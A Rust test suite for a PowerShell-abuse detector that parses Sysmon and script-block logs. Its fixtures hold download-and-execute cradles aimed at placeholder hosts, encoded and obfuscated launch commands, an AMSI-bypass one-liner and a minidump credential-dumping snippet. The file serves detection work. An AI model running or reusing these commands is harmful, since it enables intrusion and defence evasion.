//! The PowerShell detector's decisions, both sides: the seed's test 4 and its
//! obfuscated relatives are found with the right indicators; PowerShell's own module
//! noise, other preference variables and suppression without a malicious indicator
//! are not.

use std::sync::Arc;

use base64::Engine;
use chrono::TimeZone;

use super::*;
use crate::event::{NetworkKind, Position};

const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

fn prov(n: u64) -> Provenance {
    Provenance {
        path: Arc::from("test.xml"),
        position: Position::Line(n),
        format: "xml",
    }
}

fn at(sec: u32) -> Option<DateTime<Utc>> {
    Some(Utc.with_ymd_and_hms(2024, 5, 1, 10, 0, sec).unwrap())
}

/// A Sysmon 1 process start of `image` with `cmd`.
fn proc(image: &str, cmd: &str) -> ProcessStart {
    let mut p = ProcessStart::new(Platform::Windows, prov(1));
    p.time = at(0);
    p.host = "WIN10.corp.local".into();
    p.exe = Some(image.into());
    p.command_line = cmd.into();
    p.argv = split_command_line(cmd);
    p.pid = Some(4242);
    p.ppid = Some(1000);
    p.process_guid = Some("{11111111-2222-3333-4444-555555555555}".into());
    p.parent_exe = Some(r"C:\Windows\explorer.exe".into());
    p.user = Some(r"CORP\alice".into());
    p
}

fn script(event_id: u32, text: &str) -> ScriptBlock {
    ScriptBlock {
        time: at(1),
        host: "WIN10.corp.local".into(),
        pid: Some(4242),
        user: None,
        script_block_id: "6e4c1b59-2eb8-4934-9e78-32cd88822dbb".into(),
        path: None,
        host_application: None,
        text: text.into(),
        event_id,
        provenance: prov(2),
    }
}

fn connect(guid: Option<&str>, pid: Option<u32>) -> NetworkActivity {
    NetworkActivity {
        time: at(2),
        host: "win10.corp.local".into(),
        pid,
        process_guid: guid.map(str::to_string),
        image: Some(PS.into()),
        kind: NetworkKind::Connect,
        local: Some("127.0.0.1:50123".into()),
        remote: Some("127.0.0.1:19999".into()),
        provenance: prov(3),
    }
}

fn detector() -> PowerShellDetector {
    PowerShellDetector::new(&Rules::embedded()).unwrap()
}

fn run(events: Vec<Event>) -> Vec<Finding> {
    let mut d = detector();
    let mut out = Findings::default();
    for e in &events {
        d.observe(e, &mut out);
    }
    d.finish(&mut out);
    out.drain()
}

fn one_process(image: &str, cmd: &str) -> Vec<Finding> {
    run(vec![Event::Process(proc(image, cmd))])
}

fn has(f: &Finding, names: &[&str]) {
    for n in names {
        assert!(
            f.indicators.iter().any(|i| i == n),
            "{n} missing from {:?} ({})",
            f.indicators,
            f.command_line
        );
    }
}

fn enc(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The seed's test 4 as Sysmon records it.
const SEED_TEST_4: &str = r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -Command "$ErrorActionPreference = 'SilentlyContinue'; $wc = New-Object Net.WebClient; $wc.DownloadString('http://127.0.0.1:19999/payload.ps1'); Invoke-WebRequest -Uri 'http://127.0.0.1:19999/beacon' -UseBasicParsing""#;

#[test]
fn seed_test_4_is_found_and_raised_by_its_connection() {
    let findings = run(vec![
        Event::Process(proc(PS, SEED_TEST_4)),
        Event::Network(connect(
            Some("{11111111-2222-3333-4444-555555555555}"),
            Some(4242),
        )),
    ]);
    assert_eq!(findings.len(), 1, "{findings:?}");
    let f = &findings[0];
    assert_eq!(f.detection_type, DetectionType::PsErrorSuppression);
    assert_eq!(f.platform, Platform::Windows);
    assert_eq!(f.exec_cmd, PS);
    assert_eq!(f.nohup_target, "");
    assert_eq!(f.nohup_args, f.command_line);
    assert_eq!(f.command_line, SEED_TEST_4);
    assert_eq!((f.pid, f.ppid), (Some(4242), Some(1000)));
    assert_eq!(f.user.as_deref(), Some(r"CORP\alice"));
    has(
        f,
        &[
            "error_preference_suppressed",
            "download_cradle",
            "network_activity",
        ],
    );
    // suppression 1 + download 3 + network 2
    assert_eq!(f.suspicion_score, 6);
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn the_connection_may_come_first() {
    let findings = run(vec![
        Event::Network(connect(
            Some("{11111111-2222-3333-4444-555555555555}"),
            Some(4242),
        )),
        Event::Process(proc(PS, SEED_TEST_4)),
    ]);
    has(&findings[0], &["network_activity"]);
    // A 4104 block of a process known only by pid, then its connection.
    let findings = run(vec![
        Event::Script(script(
            4104,
            "$ErrorActionPreference='SilentlyContinue'; iex (iwr http://x/a)",
        )),
        Event::Network(connect(None, Some(4242))),
    ]);
    has(
        &findings[0],
        &["exec_cradle", "download_cradle", "network_activity"],
    );
}

#[test]
fn a_connection_of_another_process_does_not_count() {
    // Same pid, another ProcessGuid: the pid was reused.
    let findings = run(vec![
        Event::Process(proc(PS, SEED_TEST_4)),
        Event::Network(connect(
            Some("{99999999-2222-3333-4444-555555555555}"),
            Some(4242),
        )),
    ]);
    assert!(
        !findings[0]
            .indicators
            .iter()
            .any(|i| i == "network_activity")
    );
    // Another host.
    let mut n = connect(None, Some(4242));
    n.host = "other".into();
    let findings = run(vec![
        Event::Process(proc(PS, SEED_TEST_4)),
        Event::Network(n),
    ]);
    assert!(
        !findings[0]
            .indicators
            .iter()
            .any(|i| i == "network_activity")
    );
}

#[test]
fn the_4104_block_of_the_same_launch_is_the_same_finding() {
    let text = "$ErrorActionPreference = 'SilentlyContinue'; $wc = New-Object Net.WebClient; $wc.DownloadString('http://127.0.0.1:19999/payload.ps1'); Invoke-WebRequest -Uri 'http://127.0.0.1:19999/beacon' -UseBasicParsing";
    let findings = run(vec![
        Event::Process(proc(PS, SEED_TEST_4)),
        Event::Script(script(4104, text)),
        Event::Network(connect(
            Some("{11111111-2222-3333-4444-555555555555}"),
            Some(4242),
        )),
    ]);
    assert_eq!(findings.len(), 1, "{findings:?}");
    has(&findings[0], &["download_cradle", "network_activity"]);
}

#[test]
fn repeated_pipeline_details_are_one_finding() {
    // Windows PowerShell writes an 800 event per command of a pipeline, each with the
    // whole text (19 in the OTRF Empire data).
    let mut events = Vec::new();
    for i in 0..19 {
        let mut s = script(
            800,
            "$ErrorActionPreference = \"SilentlyContinue\";$wc=NeW-ObJeCt SySTEM.NET.WeBCLiENt;$wc.DownloadData($s)",
        );
        s.pid = None;
        s.provenance = prov(100 + i);
        events.push(Event::Script(s));
    }
    let findings = run(events);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].source.position, Position::Line(100));
}

#[test]
fn pipeline_details_link_to_their_process_by_host_application() {
    let cmd = format!(
        "\"{PS}\" -noP -sta -w 1 -enc  {}",
        enc("iex (New-Object Net.WebClient).DownloadString('http://c2/s')")
    );
    let mut p = proc(PS, &cmd);
    p.parent_exe = Some(r"C:\Windows\System32\wscript.exe".into());
    let mut s = script(
        800,
        "$ErrorActionPreference = \"SilentlyContinue\";$WC=NeW-ObJeCt SySTEM.NET.WeBCLiENt;IEX $data",
    );
    s.pid = None;
    s.host = "WIN10".into(); // the classic log's host name is short
    s.host_application = Some(format!(
        "{PS} -noP -sta -w 1 -enc {}",
        enc("iex (New-Object Net.WebClient).DownloadString('http://c2/s')")
    ));
    let findings = run(vec![
        Event::Process(p),
        Event::Script(s),
        Event::Network(connect(
            Some("{11111111-2222-3333-4444-555555555555}"),
            None,
        )),
    ]);
    // The launcher itself does not suppress errors; the stager it runs does.
    assert_eq!(findings.len(), 1, "{findings:?}");
    let f = &findings[0];
    assert_eq!((f.pid, f.ppid), (Some(4242), Some(1000)));
    // This pipeline creates a WebClient but downloads nothing with it (the call
    // that does is in another pipeline): no download_cradle from a type name.
    assert!(
        !f.indicators.iter().any(|i| i == "download_cradle"),
        "{:?}",
        f.indicators
    );
    has(
        f,
        &[
            "error_preference_suppressed",
            "exec_cradle",
            "hidden_window",
            "encoded_command",
            "suspicious_parent",
            "network_activity",
        ],
    );
    assert_eq!(f.severity, Severity::High);
}

// --- the host's own command line ----------------------------------------------------

#[test]
fn ea_zero_and_erroraction_prefixes() {
    for cmd in [
        r#"powershell.exe -c "iwr http://x/a -OutFile a.exe -ea 0""#,
        r#"powershell.exe -c "Invoke-WebRequest http://x/a -ErrorA Ignore""#,
        r#"powershell.exe -c "iwr http://x/a -ErrorAction:SilentlyContinue""#,
        r#"powershell.exe -c "iwr http://x/a -EA 4""#,
    ] {
        let f = one_process(PS, cmd);
        assert_eq!(f.len(), 1, "{cmd}");
        has(&f[0], &["error_action_suppressed", "download_cradle"]);
    }
}

#[test]
fn ea_on_the_hosts_own_command_line_is_encoded_arguments() {
    // -ea before -Command belongs to powershell.exe: -EncodedArguments, not ErrorAction.
    assert!(one_process(PS, r#"powershell.exe -ea 0 -c "iwr http://x/a""#).is_empty());
    assert_eq!(
        one_process(PS, r#"powershell.exe -c "iwr http://x/a -ea 0""#).len(),
        1
    );
}

#[test]
fn encoded_commands_by_every_abbreviation_are_decoded_and_shown() {
    let inner = "$ErrorActionPreference='SilentlyContinue';IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')";
    let b64 = enc(inner);
    for switch in [
        "-EncodedCommand",
        "-enc",
        "-EC",
        "/enc",
        "/e",
        "\u{2013}ec",
        "--encodedcommand",
    ] {
        let cmd = format!("powershell.exe -NoP -NonI -W Hidden {switch} {b64}");
        let f = one_process(PS, &cmd);
        assert_eq!(f.len(), 1, "{switch}");
        has(
            &f[0],
            &[
                "error_preference_suppressed",
                "download_cradle",
                "exec_cradle",
                "encoded_command",
                "hidden_window",
            ],
        );
        // The analyst sees the decoded text in place of the base64.
        assert_eq!(
            f[0].command_line,
            format!("powershell.exe -NoP -NonI -W Hidden {switch} {inner}")
        );
    }
    // The same base64 without suppression inside: not reported.
    let quiet = enc("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')");
    assert!(one_process(PS, &format!("powershell.exe -enc {quiet}")).is_empty());
}

#[test]
fn nested_encodings_are_judged() {
    let stage2 = enc(
        "$ErrorActionPreference = 0; Start-BitsTransfer -Source http://x/p.exe -Destination $env:TEMP\\p.exe",
    );
    let stage1 = enc(&format!(
        "Start-Process powershell -ArgumentList '-w','hidden','-enc','{stage2}'"
    ));
    let f = one_process(PS, &format!("powershell.exe -e {stage1}"));
    assert_eq!(f.len(), 1);
    has(
        &f[0],
        &["error_preference_suppressed", "network_util", "exec_cradle"],
    );
    assert!(
        f[0].command_line
            .contains("[decoded] $ErrorActionPreference = 0; Start-BitsTransfer")
    );
}

#[test]
fn renamed_powershell_is_known_by_its_original_file_name() {
    let cmd = format!(
        r"C:\Users\Public\svchost.exe -ec {}",
        enc("iwr http://x/a -ea 0 | iex")
    );
    let renamed = r"C:\Users\Public\svchost.exe";
    assert!(
        one_process(renamed, &cmd).is_empty(),
        "unknown image, no OriginalFileName"
    );
    let mut p = proc(renamed, &cmd);
    p.original_file_name = Some("PowerShell.EXE".into());
    let f = run(vec![Event::Process(p)]);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].exec_cmd, renamed);
    has(
        &f[0],
        &["download_cradle", "exec_cradle", "encoded_command"],
    );
    // pwsh's apphost is known as pwsh.dll.
    let mut p = proc(
        r"C:\tmp\x.exe",
        r#"C:\tmp\x.exe -c "irm http://x | iex; $ErrorActionPreference='Ignore'""#,
    );
    p.original_file_name = Some("pwsh.dll".into());
    assert_eq!(run(vec![Event::Process(p)]).len(), 1);
}

#[test]
fn caret_obfuscated_cmd_launch_is_decoded() {
    // cmd.exe's own command line keeps the carets; the PowerShell it starts is judged.
    let cmd = r"C:\Windows\system32\cmd.exe /c p^ow^ers^hell.exe -nop -w hidden -c I^EX (New-Object Net.We^bClient).DownloadString('http://x/a'); Get-Item x -Er^rorAction SilentlyContinue";
    let f = one_process(r"C:\Windows\System32\cmd.exe", cmd);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].exec_cmd, "powershell.exe");
    has(
        &f[0],
        &[
            "exec_cradle",
            "download_cradle",
            "error_action_suppressed",
            "hidden_window",
        ],
    );
    assert!(
        f[0].command_line
            .starts_with(r"C:\Windows\system32\cmd.exe /c powershell.exe -nop")
    );
    // Inside quotes carets are literal, and `-Er^rorAction` is not ErrorAction...
    let quoted = r#"cmd.exe /c powershell -c "iwr http://x -Er^rorAction 0""#;
    assert!(one_process(r"C:\Windows\System32\cmd.exe", quoted).is_empty());
    // ...but the quotes right after /c are removed first (cmd /?), so carets
    // inside them escape.
    let stripped = r#"cmd.exe /c "powershell -c iwr http://x -Er^rorAction 0""#;
    let f = one_process(r"C:\Windows\System32\cmd.exe", stripped);
    assert_eq!(f.len(), 1, "{f:?}");
    has(&f[0], &["download_cradle", "error_action_suppressed"]);
    // An Office application starting PowerShell is the suspicious parent.
    let f = one_process(
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#"WINWORD.EXE /c powershell -c "iwr http://x -ea 0""#,
    );
    has(&f[0], &["suspicious_parent"]);
}

#[test]
fn backtick_obfuscation_is_resolved() {
    let cmd = r#"powershell.exe -c "I`E`X (New-Object Net.Web`Client).Download`String('http://x/a'); $Error`ActionPreference = 'Silently'+'Continue'""#;
    let f = one_process(PS, cmd);
    assert_eq!(f.len(), 1);
    has(
        &f[0],
        &[
            "exec_cradle",
            "download_cradle",
            "error_preference_suppressed",
        ],
    );
}

#[test]
fn office_parent_and_amsi_tampering() {
    let mut p = proc(
        PS,
        r#"powershell.exe -w hidden -c "$ErrorActionPreference='SilentlyContinue';[Ref].Assembly.GetType('System.Management.Automation.'+'AmsiUtils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)""#,
    );
    p.parent_exe = Some(r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE".into());
    let f = run(vec![Event::Process(p)]);
    has(
        &f[0],
        &["amsi_tamper", "suspicious_parent", "hidden_window"],
    );
    assert!(f[0].severity >= Severity::High);
}

#[test]
fn linux_pwsh_is_a_host_too() {
    let mut p = ProcessStart::new(Platform::Unix, prov(1));
    p.exe = Some("/opt/microsoft/powershell/7/pwsh".into());
    p.argv = [
        "pwsh",
        "-c",
        "iwr http://x/a -OutFile /tmp/a -ea 0; chmod +x /tmp/a",
    ]
    .map(String::from)
    .to_vec();
    p.command_line = p.argv.join(" ");
    let f = run(vec![Event::Process(p)]);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].platform, Platform::Unix);
}

// --- what is not reported -----------------------------------------------------------

#[test]
fn suppression_without_a_malicious_indicator_is_not_reported() {
    for cmd in [
        r#"powershell.exe -c "Get-Service wuauserv -ErrorAction SilentlyContinue | Stop-Service""#,
        r#"powershell.exe -NoProfile -c "$ErrorActionPreference = 'SilentlyContinue'; Remove-Item C:\temp\*.log""#,
        // Context alone (hidden window, bypass, encoded) is not malicious content.
        &format!(
            "powershell.exe -w hidden -ep bypass -enc {}",
            enc("Get-ChildItem C:\\ -Recurse -ea 0")
        ),
    ] {
        assert!(one_process(PS, cmd).is_empty(), "{cmd}");
    }
    // …unless the rules ask for every suppression.
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["require_indicator"] = toml::Value::Boolean(false);
    let rules = Rules::from_table(table).unwrap();
    let mut d = PowerShellDetector::new(&rules).unwrap();
    let mut out = Findings::default();
    d.observe(
        &Event::Process(proc(PS, r#"powershell.exe -c "Get-Service x -ea 0""#)),
        &mut out,
    );
    let f = out.drain();
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].indicators, ["error_action_suppressed"]);
    assert_eq!(f[0].severity, Severity::Low);
}

#[test]
fn other_preferences_and_streams_are_not_error_suppression() {
    for cmd in [
        r#"powershell.exe -c "$ProgressPreference = 'SilentlyContinue'; iwr http://x/a -OutFile a.zip""#,
        r#"powershell.exe -c "iwr http://x/a -WarningAction SilentlyContinue -InformationAction Ignore""#,
        r#"powershell.exe -c "iwr http://x/a -ProgressAction SilentlyContinue""#,
        r#"powershell.exe -c "iwr http://x/a -ErrorAction Stop""#,
        r#"powershell.exe -c "iwr http://x/a -ErrorVariable err""#,
    ] {
        assert!(one_process(PS, cmd).is_empty(), "{cmd}");
    }
}

#[test]
fn module_noise_is_never_a_finding() {
    // 4103 module logging of PowerShell's own modules: Set-Alias … -ErrorAction
    // SilentlyContinue, even for an alias of a download cmdlet.
    let payload = "CommandInvocation(Set-Alias): \"Set-Alias\"\r\nParameterBinding(Set-Alias): name=\"Name\"; value=\"irm\"\r\nParameterBinding(Set-Alias): name=\"Value\"; value=\"Invoke-RestMethod\"\r\nParameterBinding(Set-Alias): name=\"ErrorAction\"; value=\"SilentlyContinue\"\r\n";
    assert!(run(vec![Event::Script(script(4103, payload))]).is_empty());
    // A module's script block with a download and suppression, from the modules folder.
    let mut s = script(
        4104,
        "$wc = New-Object System.Net.WebClient; $wc.DownloadFile($uri, $dest); Remove-Item $tmp -ErrorAction SilentlyContinue",
    );
    s.path = Some(
        r"C:\Program Files\WindowsPowerShell\Modules\PowerShellGet\1.0.0.1\PSModule.psm1".into(),
    );
    assert!(run(vec![Event::Script(s.clone())]).is_empty());
    // The same text typed by someone is reported.
    s.path = None;
    assert_eq!(run(vec![Event::Script(s)]).len(), 1);
    // 800 events of a module's pipelines (ScriptName in the modules folder).
    let mut p = script(
        800,
        "Set-Alias -Name iwr2 -Value Invoke-WebRequest -ErrorAction SilentlyContinue",
    );
    p.path = Some(
        r"C:\windows\system32\windowspowershell\v1.0\Modules\BitsTransfer\BitsTransfer.psd1".into(),
    );
    assert!(run(vec![Event::Script(p)]).is_empty());
    // PowerShell's command-not-found suggestion handler (verbatim 4104 from the
    // mdecrevoisier BITS sample): -ErrorAction Ignore, nothing malicious.
    let handler = "\n        [System.Diagnostics.DebuggerHidden()]\n        param()\n\n        $foundSuggestion = $false\n        \n        if($lastError -and\n            ($lastError.Exception -is \"System.Management.Automation.CommandNotFoundException\"))\n        {\n            $escapedCommand = [System.Management.Automation.WildcardPattern]::Escape($lastError.TargetObject)\n            $foundSuggestion = @(Get-Command ($ExecutionContext.SessionState.Path.Combine(\".\", $escapedCommand)) -ErrorAction Ignore).Count -gt 0\n        }\n\n        $foundSuggestion\n        ";
    assert!(run(vec![Event::Script(script(4104, handler))]).is_empty());
}

#[test]
fn module_logging_bindings_are_judged_as_commands() {
    // 4103 shows the resolved binding whatever the script wrote (-ea 0 → ErrorAction).
    let payload = "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://10.0.0.5/a.ps1\"\r\nParameterBinding(Invoke-WebRequest): name=\"ErrorAction\"; value=\"SilentlyContinue\"\r\n";
    let f = run(vec![Event::Script(script(4103, payload))]);
    assert_eq!(f.len(), 1);
    assert_eq!(
        f[0].command_line,
        "Invoke-WebRequest -Uri 'http://10.0.0.5/a.ps1' -ErrorAction 'SilentlyContinue'"
    );
    has(&f[0], &["error_action_suppressed", "download_cradle"]);
}

#[test]
fn minidump_script_with_cleanup_suppression_is_not_reported() {
    // sbousseaden's Out-Minidump 4104: `Remove-Item … -ErrorAction SilentlyContinue`
    // cleans up a partial dump; none of the technique's indicators fire (credential
    // dumping is T1003.001, not error suppression), as in the seed.
    let text = "$FileStream = New-Object IO.FileStream($ProcessDumpPath, [IO.FileMode]::Create)\n$Result = $MiniDumpWriteDump.Invoke($null, @($ProcessHandle, $ProcessId, $FileStream.SafeFileHandle, $MiniDumpWithFullMemory, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero))\nif (-not $Result) { Remove-Item $ProcessDumpPath -ErrorAction SilentlyContinue; throw $ExceptionMessage }";
    assert!(run(vec![Event::Script(script(4104, text))]).is_empty());
}

#[test]
fn comments_and_strings_that_mention_the_terms_are_not_code() {
    let text = "# Use -ErrorAction SilentlyContinue with Invoke-WebRequest when probing\n<# iex (iwr http://x) #>\nGet-Date";
    assert!(run(vec![Event::Script(script(4104, text))]).is_empty());
}

#[test]
fn state_is_bounded() {
    let mut d = detector();
    let mut out = Findings::default();
    for i in 0..(PROCESS_MEMORY as u32 + 100) {
        let mut p = proc(PS, "powershell.exe -c Get-Date");
        p.pid = Some(i + 1);
        p.process_guid = Some(format!("{{{i:08}-0000-0000-0000-000000000000}}"));
        d.observe(&Event::Process(p), &mut out);
        let mut n = connect(Some(&format!("{{x{i}}}")), Some(1_000_000 + i));
        n.image = None;
        d.observe(&Event::Network(n), &mut out);
    }
    assert!(d.procs.entries.len() <= PROCESS_MEMORY);
    assert!(d.procs.by_pid.len() <= PROCESS_MEMORY);
    assert!(d.procs.by_guid.len() <= PROCESS_MEMORY);
    assert!(d.network.keys.len() <= NETWORK_MEMORY);
    // What was forgotten is counted for the run summary.
    // (Each unknown connection is remembered by guid and by pid.)
    let connections = 2 * (PROCESS_MEMORY as u64 + 100);
    assert_eq!(d.state_dropped(), 100 + connections - NETWORK_MEMORY as u64);
    assert!(out.is_empty());
}

#[test]
fn rules_reject_patterns_for_unknown_indicators() {
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["patterns"]
        .as_table_mut()
        .unwrap()
        .insert("no_such".into(), toml::Value::Array(vec!["x".into()]));
    let rules = Rules::from_table(table).unwrap();
    assert!(PowerShellDetector::new(&rules).is_err());
}

// --- the decoder's depth limit ------------------------------------------------------

/// `script` wrapped in `layers` nested `powershell -enc`, as the outer command line.
fn nested_enc(script: &str, layers: usize) -> String {
    let mut text = script.to_string();
    for _ in 0..layers {
        text = format!("powershell.exe -NoProfile -EncodedCommand {}", enc(&text));
    }
    text
}

#[test]
fn encodings_deeper_than_the_limit_are_reported_not_dropped() {
    let payload = "iwr http://x/a.ps1 -ea 0 | iex";
    // Within the limit: judged on the innermost text.
    let f = one_process(PS, &nested_enc(payload, 4));
    assert_eq!(f.len(), 1, "{f:?}");
    has(&f[0], &["download_cradle", "error_action_suppressed"]);
    assert!(!f[0].indicators.iter().any(|i| i == "decode_depth_limit"));
    // One layer more: the suppression is out of sight, the evidence is still
    // reported, saying why.
    let f = one_process(PS, &nested_enc(payload, 6));
    assert_eq!(f.len(), 1, "{f:?}");
    has(&f[0], &["decode_depth_limit"]);
    assert!(f[0].severity >= Severity::Medium);
    // The limit is rule data.
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["max_decode_depth"] = toml::Value::Integer(8);
    let rules = Rules::from_table(table).unwrap();
    let mut d = PowerShellDetector::new(&rules).unwrap();
    let mut out = Findings::default();
    d.observe(&Event::Process(proc(PS, &nested_enc(payload, 6))), &mut out);
    let f = out.drain();
    assert_eq!(f.len(), 1);
    has(&f[0], &["download_cradle", "error_action_suppressed"]);
    assert!(!f[0].indicators.iter().any(|i| i == "decode_depth_limit"));
    // Depth alone is not evidence: a benign script two layers down is not a finding.
    assert!(one_process(PS, &nested_enc("Get-Date", 2)).is_empty());
}

#[test]
fn embedded_patterns_build_and_are_left_for_first_use() {
    // `Compiled::judging` trusts the embedded rules to build: this is the check.
    let ps: PowerShellRules = Rules::embedded().section("powershell").unwrap();
    assert!(build_judging(&ps, true).is_ok());
    // ...and recognises them by their own file alone.
    assert_eq!(EMBEDDED_KEY.as_deref(), Some(compile_key(&ps).as_str()));
    // Known by their key (a user file that leaves the section alone) or by where
    // they come from, without a key.
    assert!(compile(&ps, false).is_ok());
    let compiled = compile(&ps, true).unwrap();
    // The first text judged builds them (the cache may share a set another test used).
    let d = detector();
    assert!(Arc::ptr_eq(&d.compiled, &compiled));
    assert!(d.compiled.judging(&d.rules).patterns.len() > 1);
    assert!(compiled.judging.get().is_some());
}

#[test]
fn changed_patterns_are_built_and_checked_with_the_detector() {
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["text_patterns"]["defense_evasion"] =
        toml::Value::Array(vec![toml::Value::String("(unclosed".into())]);
    let rules = Rules::from_table(table).unwrap();
    let err = PowerShellDetector::new(&rules)
        .err()
        .expect("a bad pattern fails");
    assert!(
        err.to_string().contains("patterns.defense_evasion"),
        "{err}"
    );
    // A valid change is built at once, not on first use.
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["text_patterns"]["defense_evasion"] =
        toml::Value::Array(vec![toml::Value::String("xyzzy-cradle".into())]);
    let d = PowerShellDetector::new(&Rules::from_table(table).unwrap()).unwrap();
    assert!(d.compiled.judging.get().is_some());
}

#[test]
fn action_patterns_of_user_rules_are_checked_up_front_and_embedded_ones_on_use() {
    // A user rule whose argument pattern does not compile fails the detector, and
    // the error names the action.
    for field in ["args", "args_all"] {
        let mut table = Rules::embedded().table().clone();
        let actions = table["powershell"]["actions"].as_array_mut().unwrap();
        let k = actions.iter().position(|a| a.get(field).is_some()).unwrap();
        actions[k][field] = toml::Value::Array(vec![toml::Value::String("(unclosed".into())]);
        let err = PowerShellDetector::new(&Rules::from_table(table).unwrap())
            .err()
            .expect("a bad action pattern fails");
        assert!(
            err.to_string().contains(&format!("actions[{k}]"))
                && err.to_string().contains(&format!(".{field}")),
            "{err}"
        );
    }
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["writable_folders"] =
        toml::Value::Array(vec![toml::Value::String("[bad".into())]);
    let err = PowerShellDetector::new(&Rules::from_table(table).unwrap())
        .err()
        .expect("a bad folder pattern fails");
    assert!(err.to_string().contains("writable_folders"), "{err}");
    // The embedded ones: none compiled by building the detector; a download
    // cradle compiles its own action's patterns, and still fires.
    let ps: PowerShellRules = Rules::embedded().section("powershell").unwrap();
    let judging = build_judging(&ps, false).unwrap();
    assert_eq!(judging.actions.compiled_count(), 0);
    let a = crate::pwsh::analyze(
        "Invoke-WebRequest -Uri http://203.0.113.9/a.exe -OutFile C:\\Users\\Public\\a.exe",
        4,
    );
    let fired = judging.actions.fire(&a);
    assert!(
        fired.iter().any(|f| f == "payload_to_writable_folder"),
        "{fired:?}"
    );
    let compiled = judging.actions.compiled_count();
    assert!(
        compiled >= 1 && compiled < judging.actions.len(),
        "{compiled}"
    );
}

#[test]
fn host_name_prefilter_never_hides_a_match_of_the_embedded_regex() {
    let d = detector();
    let c = &d.compiled;
    assert!(c.host_names.is_some());
    // Texts of the embedded regex's alphabet: host names in every case, their
    // pieces, separators, quotes, and the non-ASCII case variants of `s` and `k`.
    let pieces = [
        "powershell",
        "POWERSHELL",
        "PowerShell",
        "pwsh",
        "PWSH",
        "pWsH",
        ".exe",
        ".EXE",
        "_ise",
        "powershell_ise.exe",
        "power",
        "shell",
        "pw",
        "sh",
        " ",
        "\"",
        "'",
        "\\",
        "/",
        "&",
        "|",
        "(",
        ";",
        ",",
        "=",
        "-c",
        "x",
        "ſ",
        "\u{212A}",
        "é",
        "\t",
    ];
    let mut rng = crate::test_rng::XorShift::new(0x005e_ed0f_9051);
    let mut matched = 0;
    for _ in 0..50_000 {
        let n = 1 + rng.below(6);
        let text: String = (0..n).map(|_| pieces[rng.below(pieces.len())]).collect();
        let regex = c.embedded.is_match(&text);
        assert!(c.may_name_host(&text) || !regex, "{text:?}");
        matched += usize::from(regex);
    }
    assert!(matched > 1_000, "{matched}");
    // The long s folds to `s` under `(?i)`: the prefilter must not be asked.
    assert!(c.embedded.is_match("powerſhell -c x") && c.may_name_host("powerſhell -c x"));
    // A name that is not all ASCII turns the prefilter off.
    let mut table = Rules::embedded().table().clone();
    table["powershell"]["host_images"] = toml::Value::Array(vec![
        toml::Value::String("pwsh".into()),
        toml::Value::String("\u{212A}sh".into()),
    ]);
    let d = PowerShellDetector::new(&Rules::from_table(table).unwrap()).unwrap();
    assert!(d.compiled.host_names.is_none());
    assert!(d.compiled.may_name_host("ksh -c true"));
}
